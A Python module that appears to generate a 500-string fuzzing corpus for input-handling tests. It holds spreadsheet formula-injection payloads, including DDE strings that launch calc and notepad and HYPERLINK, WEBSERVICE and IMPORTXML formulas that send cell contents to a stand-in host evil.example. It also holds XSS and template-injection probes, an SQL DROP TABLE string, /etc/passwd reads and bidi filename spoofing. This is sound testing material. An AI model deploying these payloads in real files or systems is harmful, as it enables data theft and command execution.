"""500 strings that want to be more than text: formulas, hidden marks, markup, paths, commands."""

from __future__ import annotations

from itertools import product

_STARTERS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁼", "₊", "−")
_BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\0",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\xa0",
    "\u3000",
    '"',
    "'",
    ";",
    ",",
    "x;",
    'x,"',
    "x\t",
    "a|",
)
_COMMANDS = (
    "1+1",
    "cmd|'/c calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"看这里")',
    'WEBSERVICE("http://evil.example/"&A1)',
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "SUM(A1:A9)*cmd|' /C notepad'!'A1'",
)
_OTHERS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    "${7*7}",
    "#read(\"/etc/passwd\")",
    "#import \"@preview/x:0.1.0\"",
    "#eval(\"1+1\")",
    "$ sum $ *bold* _it_ `raw` <label> @ref",
    "\\u{41} \\ // comment /* open",
    "http://evil.example/",
    "file:///etc/passwd",
    "mailto:x@evil.example",
    "\x1b[31mred",
    "%s%n%x",
    "'; DROP TABLE visits; --",
    "]]><!--",
    "_x0041_ _x000D_",
    "\ud7ff\ue000私有\ufffe\uffff",
    "A" * 5000,
    "玥璟珺龘𠮷",
    "line\nbreak\r\nbreak\u2028break",
    "\u202egpj.exe",
    "\u2066isolated\u2069",
    "e\u0301\u0302\u0303" * 50,
    "0x41", "1e309", "TRUE", "NULL", "#REF!", "#NAME?",
)  # fmt: skip


def corpus() -> list[str]:
    """Return the strings, all different."""
    made = [f"{before}{start}{command}" for before, start, command in product(_BEFORE, _STARTERS, _COMMANDS[:4])]
    made = made[::2] + [f"{start}{command}" for start, command in product(_STARTERS, _COMMANDS)]
    return list(dict.fromkeys([*_OTHERS, *made]))[:500]
